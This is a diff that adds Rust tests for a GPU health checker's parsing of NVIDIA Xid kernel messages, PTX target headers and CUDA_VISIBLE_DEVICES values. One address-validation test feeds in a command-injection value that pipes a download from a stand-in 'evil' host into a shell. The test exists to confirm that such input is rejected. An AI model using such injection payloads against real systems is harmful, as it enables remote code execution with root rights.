@@ -1,0 +1,149 @@
+//! What the checker reads in kernel logs, in PTX and in CUDA_VISIBLE_DEVICES.
+
+use candle_headroom::environment::Report;
+
+use crate::machine::{Machine, codes};
+
+/// The evidence of the findings about Xid messages.
+fn messages(log: &str) -> Vec<(&'static str, String)> {
+    let report = Machine::plain().file("/dev/kmsg", log).check();
+    let findings = report.findings().iter();
+    let is_xid = |id: &str| ["HR-110", "HR-111", "HR-112"].contains(&id);
+    let xids = findings.filter(|finding| is_xid(finding.code.id));
+    xids.map(|finding| (finding.code.id, finding.seen.clone()))
+        .collect()
+}
+
+#[test]
+fn messages_are_read_and_counted() {
+    let found = messages(
+        "6,12,99,-;NVRM: Xid (PCI:0000:3b:00): 31, pid=7, name=train, MMU Fault\n\
+         [ 9.1] NVRM: Xid (PCI:0000:3b:00): 31, pid=8, name=train, MMU Fault again\n\
+         [ 9.2] NVRM: Xid (0000:af:00): 79, GPU has fallen off the bus.\n\
+         NVRM: Xid (PCI:0000:3b:00): many\nNVRM: Xid (\nsomething else",
+    );
+    let since = "since the last start (/dev/kmsg)";
+    assert_eq!(
+        found,
+        [
+            (
+                "HR-110",
+                format!("Xid 79 of 0000:af:00, {since}: GPU has fallen off the bus.")
+            ),
+            (
+                "HR-111",
+                format!(
+                    "Xid 31 of 0000:3b:00, 2 times, {since}: pid=8, name=train, MMU Fault again"
+                )
+            ),
+        ]
+    );
+}
+
+/// An address goes into a command that a user may run as root.
+#[test]
+fn a_message_without_an_address_is_ignored() {
+    for address in [
+        "PCI:0; curl evil|sh #",
+        "",
+        "PCI:",
+        "0000:3b:00 -i 1",
+        "PCI:00000000000000000",
+    ] {
+        let log = format!("NVRM: Xid ({address}): 79, GPU has fallen off the bus.");
+        assert_eq!(messages(&log), [], "{address}");
+    }
+    let found = messages("NVRM: Xid (PCI:00000000:3b:00.0): 79, off the bus");
+    assert!(found[0].1.contains("00000000:3b:00.0"), "{found:?}");
+}
+
+#[test]
+fn the_newest_of_many_kinds_of_messages_are_reported() {
+    let lines = (200..300).map(|number| format!("NVRM: Xid (PCI:0000:3b:00): {number}, x\n"));
+    let found = messages(&lines.collect::<String>());
+    assert_eq!(found.len(), 65);
+    assert!(found[0].1.contains("Xid 236 ") && found[63].1.contains("Xid 299 "));
+    assert!(
+        found[64].1.starts_with("36 further kinds"),
+        "{}",
+        found[64].1
+    );
+}
+
+/// Whether kernels for this target run on a GPU of this compute capability.
+fn runs(target: &str, (major, minor): (u32, u32)) -> bool {
+    let report = Machine::healthy()
+        .answers(&format!("major={major}\nminor={minor}"))
+        .kernels("mine", &format!(".version 8.0\n.target {target}, debug\n"))
+        .check();
+    let mut findings = report.findings().iter();
+    !findings.any(|finding| finding.code.id == "HR-309" && finding.seen.starts_with("mine"))
+}
+
+#[test]
+fn kernels_run_where_nvidia_says() {
+    assert!(runs("sm_80", (8, 0)) && runs("sm_80", (9, 0)) && runs("compute_80", (12, 0)));
+    assert!(!runs("sm_90", (8, 9)) && !runs("sm_86", (8, 0)));
+    assert!(runs("sm_90a", (9, 0)) && !runs("sm_90a", (10, 0)));
+    assert!(runs("sm_100f", (10, 3)) && !runs("sm_100f", (12, 0)));
+    for unreadable in ["sm_", "sm_x", "a", "5", "99999"] {
+        assert!(runs(unreadable, (3, 0)), "{unreadable}: nothing is known");
+    }
+}
+
+#[test]
+fn headers_of_kernels_are_read() {
+    let ptx =
+        "//\n// Compiler Build\n//\n\n.version 9.0\n.target sm_90a, debug\n.address_size 64\n";
+    let seen = |report: &Report, id: &str| {
+        let mut findings = report.findings().iter();
+        let finding =
+            findings.find(|finding| finding.code.id == id && finding.seen.starts_with("mine"));
+        finding.map(|finding| finding.seen.clone())
+    };
+    let report = Machine::healthy().kernels("mine", ptx).check();
+    let expected = Some("mine: PTX 9.0 for sm_90a".to_owned());
+    assert_eq!(seen(&report, "HR-312"), expected, "{report}");
+    let report = Machine::healthy().kernels("mine", "garbage").check();
+    assert!(seen(&report, "HR-310").is_some(), "{report}");
+}
+
+/// The places of the GPUs that the variable leaves visible. CUDA does not start, so that the variable alone decides.
+fn visible(value: &str) -> (Vec<u32>, Report) {
+    let uuids = "gpus=3\n0.uuid=GPU-11-a\n1.uuid=GPU-12-b\n2.uuid=GPU-2-c\nstatus.cuInit=100";
+    let report = Machine::healthy()
+        .answers(uuids)
+        .variable("CUDA_VISIBLE_DEVICES", value)
+        .check();
+    let gpus = report.gpus().iter().filter(|gpu| gpu.visible);
+    (gpus.map(|gpu| gpu.index).collect(), report)
+}
+
+/// The driver's rules for CUDA_VISIBLE_DEVICES.
+#[test]
+fn visible_devices() {
+    for (value, gpus, what) in [
+        ("2,0", &[0, 2][..], "numbers"),
+        ("0,2,-1,1", &[0, 2], "the guide's own example"),
+        ("1, 7 ,0", &[1], "7 ends the list"),
+        ("GPU-12,GPU-2", &[1, 2], "prefixes of UUIDs"),
+        ("GPU-1", &[], "two UUIDs begin with it"),
+        ("", &[], "nothing"),
+        ("-1", &[], "no GPU"),
+        ("NoDevFiles", &[], "no GPU"),
+        ("0,1,0", &[], "twice"),
+        ("GPU-12,GPU-12-b", &[], "twice"),
+        ("1,GPU-11,0", &[1], "numbers, and then a UUID"),
+        ("GPU-12,0", &[1], "UUIDs, and then a number"),
+        ("1x, 2 of them", &[1, 2], "only leading digits count"),
+        ("MIG-5f9c", &[0, 1, 2], "an instance of any GPU"),
+    ] {
+        let (found, report) = visible(value);
+        assert_eq!(found, gpus, "`{value}`: {what}\n{report}");
+        let hides_all = gpus.is_empty();
+        let tells = ["HR-601", "HR-603"]
+            .iter()
+            .any(|code| codes(&report).contains(code));
+        assert_eq!(tells, hides_all, "`{value}`: {what}\n{report}");
+    }
+}
